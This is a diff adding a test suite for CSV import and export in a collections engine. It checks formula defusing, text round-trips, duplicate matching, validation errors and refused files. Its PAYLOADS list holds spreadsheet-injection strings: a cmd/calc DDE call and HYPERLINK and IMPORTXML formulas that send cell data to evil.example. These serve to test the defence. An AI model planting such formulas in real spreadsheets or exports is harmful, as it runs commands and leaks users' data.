@@ -1,0 +1,136 @@
+import { parse } from 'csv-parse/sync'
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
+import { createCollections } from '#server/collections/engine.ts'
+import type { Site } from '#server/tenancy/site.ts'
+import { type Caller, callerOf, outcome, shapeOf } from '#tests/support/collection-samples.ts'
+import { adminActor, createWorld, type World } from '#tests/support/world.ts'
+
+const engine = createCollections()
+let world: World
+let site: Site
+let admin: Caller
+
+beforeAll(async () => {
+  world = await createWorld()
+})
+afterAll(() => world.close())
+beforeEach(async () => {
+  site = await world.makeSite({ timezone: 'Australia/Sydney' })
+  admin = callerOf(world, engine, site, adminActor(await world.makePerson(site, { role: 'admin', name: 'Bo Boss' })))
+})
+
+const send = async (name: string, text: string | Uint8Array, query: Record<string, string> = {}) =>
+  JSON.parse(String((await admin('POST', name, { file: Buffer.from(text as string), query })).body))
+const exported = async (name: string) => {
+  let text = ''
+  const { body } = await admin('GET', name, { segments: ['export.csv'] })
+  for await (const piece of body as AsyncIterable<string>) text += piece
+  return text
+}
+const rows = async (name: string) => {
+  const { order, results } = shapeOf(await admin('GET', name, { query: { limit: '-1', sort: 'id' } }))
+  return order.map((id) => results[name]?.[id] as Record<string, unknown> & { id: number })
+}
+
+/** What spreadsheets run: each opening sign, in disguise, with commands, links and look-alikes. */
+const PAYLOADS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', ' =', '\t=', '"=', "'="].flatMap((sign) => [
+  `${sign}1+1`,
+  `${sign}cmd|' /C calc'!A0`,
+  `${sign}HYPERLINK("https://evil.example?x="&A1,"Click")`,
+  `${sign}IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`,
+  `${sign}SUM(1,2)\r\n=2+2`,
+])
+
+test('sixty formulas are defused in the export and come back as they were', async () => {
+  expect(PAYLOADS.length).toBe(60)
+  await admin('POST', 'locations', { body: PAYLOADS.map((details) => ({ name: 'Place', details })) })
+  const before = await rows('locations')
+  const csv = await exported('locations')
+  const cells: Record<string, string>[] = parse(csv, { bom: true, columns: true })
+  for (const row of cells) expect(row.details, row.details).toMatch(/^'/)
+  expect(await send('locations', csv)).toMatchObject({ rows: 60, created: 0, changed: 0, unchanged: 60, errors: 0 })
+  const fresh = await world.makeSite()
+  const there = callerOf(world, engine, fresh, adminActor(await world.makePerson(fresh, { role: 'admin' })))
+  await there('POST', 'locations', { file: Buffer.from(csv.replace(/^(\ufeff?)id,/, '$1old,')) })
+  const copy = shapeOf(await there('GET', 'locations', { query: { limit: '-1', sort: 'id' } }))
+  const details = Object.values(copy.results.locations ?? {}).map((row) => row.details)
+  expect(details.sort()).toEqual(before.map((row) => row.details).sort())
+})
+
+test('every text survives: quotes, commas, line breaks, accents, emoji, words with commas, leading zeros', async () => {
+  const texts = ['a "b" c', 'a,b;c', 'one\r\ntwo\n three', 'Åsa Ørsted 😀 שלום', "'quoted", "''", '0012', ' padded ']
+  await admin('POST', 'locations', { body: texts.map((details, i) => ({ name: `P${i}`, details })) })
+  const tags = [['a, b', 'c "d"'], ['plain'], [], ['=1+1', "'x"]]
+  await admin('POST', 'people', {
+    body: tags.map((list, i) => ({ name: `N${i}`, email: `n${i}@example.org`, tags: list, phone: '+447700900001' })),
+  })
+  for (const name of ['locations', 'people']) {
+    const before = await rows(name)
+    expect(await send(name, await exported(name))).toMatchObject({ created: 0, changed: 0, errors: 0 })
+    expect(await rows(name)).toEqual(before)
+  }
+})
+
+test('a file that is imported twice is in the list once, matched by id, by name, or by what makes a record one', async () => {
+  const people = 'Name,Email,Tags\nÉmile Martin,emile@example.org,"crew, helm"\nAnn Ng,ann@example.org,\n'
+  expect(await send('people', people, { preview: 'true' })).toMatchObject({ rows: 2, created: 2, errors: 0 })
+  expect(await rows('people')).toHaveLength(1)
+  expect(await send('people', people)).toMatchObject({ created: 2, changed: 0 })
+  const renamed = people.replace('Ann Ng', 'Anne Ng')
+  expect(await send('people', renamed)).toMatchObject({ created: 0, changed: 1, unchanged: 1 })
+  expect((await rows('people')).map(({ name, tags }) => [name, tags])).toContainEqual([
+    'Émile Martin',
+    ['crew', 'helm'],
+  ])
+  const events = 'name,start,end\nRace,2027-03-01 10:00,2027-03-01 12:00\nRace,2027-03-08 10:00,2027-03-08 12:00\n'
+  expect(await send('events', events)).toMatchObject({ created: 2 })
+  expect(await send('events', events)).toMatchObject({ created: 0, unchanged: 2 })
+  const [race] = await rows('events')
+  expect(race?.start).toBe('2027-02-28T23:00:00+00:00')
+  await admin('POST', 'roles', { body: { name: 'Helm' } })
+  const shift = `${race?.id},helm,2027-03-01T10:00:00Z,2027-03-01T12:00:00Z,9,x\n`
+  const shifts = `event,role/name,start,end,hours,bogus\n${shift}${shift}`
+  expect(await send('shifts', shifts)).toMatchObject({ created: 2, ignored: ['hours', 'bogus'] })
+  expect(await rows('shifts')).toHaveLength(2)
+})
+
+test('a row that is wrong stops the file and is named with its line and field', async () => {
+  await admin('POST', 'locations', { body: [{ name: 'Twin' }, { name: 'Twin' }] })
+  const file = 'name,order,archived\nGood,1,yes\n,2,no\nBad,two,maybe\nTwin,1,no\n'
+  const answer = await send('locations', file, { preview: 'true' })
+  expect(answer).toMatchObject({ rows: 4, created: 1, errors: 3 })
+  expect(answer.items.slice(0, 3)).toMatchObject([
+    { row: 3, action: 'error', messages: { name: ['Required.'] } },
+    { row: 4, messages: { order: ['Must be a number.'], archived: ['Must be true or false.'] } },
+    { row: 5, messages: { name: [expect.stringContaining('Several')] } },
+  ])
+  const before = await rows('locations')
+  await expect(send('locations', file)).rejects.toMatchObject({
+    code: 'invalid',
+    extras: { issues: { file: ['3 rows have errors.'] }, body: { errors: 3 } },
+  })
+  expect(await rows('locations')).toEqual(before)
+})
+
+test('a preview leaves no account behind', async () => {
+  await send('people', 'name,email\nX,only@preview.example\n', { preview: 'true' })
+  const { rows: accounts } = await world.superuser.query(
+    "select 1 from identity.accounts where email = 'only@preview.example'",
+  )
+  expect(accounts).toEqual([])
+})
+
+test.each([
+  ['nothing', ''],
+  ['a spreadsheet', new Uint8Array([0x50, 0x4b, 3, 4, 0, 0])],
+  ['no column of ours', 'colour,size\nred,1\n'],
+  ['a column twice', 'name,Name\nA,B\n'],
+  ['no rows', 'name\n'],
+])('%s is refused under `file`', async (_what, file) => {
+  expect(await outcome(send('locations', file))).toMatchObject({ status: 400, body: { file: [expect.any(String)] } })
+})
+
+test('keys and kiosks take no files, nor does what is read only', async () => {
+  for (const name of ['apikeys', 'kiosks', 'deliveries'])
+    expect((await outcome(send(name, 'name\nX\n'))).status).toBe(404)
+})
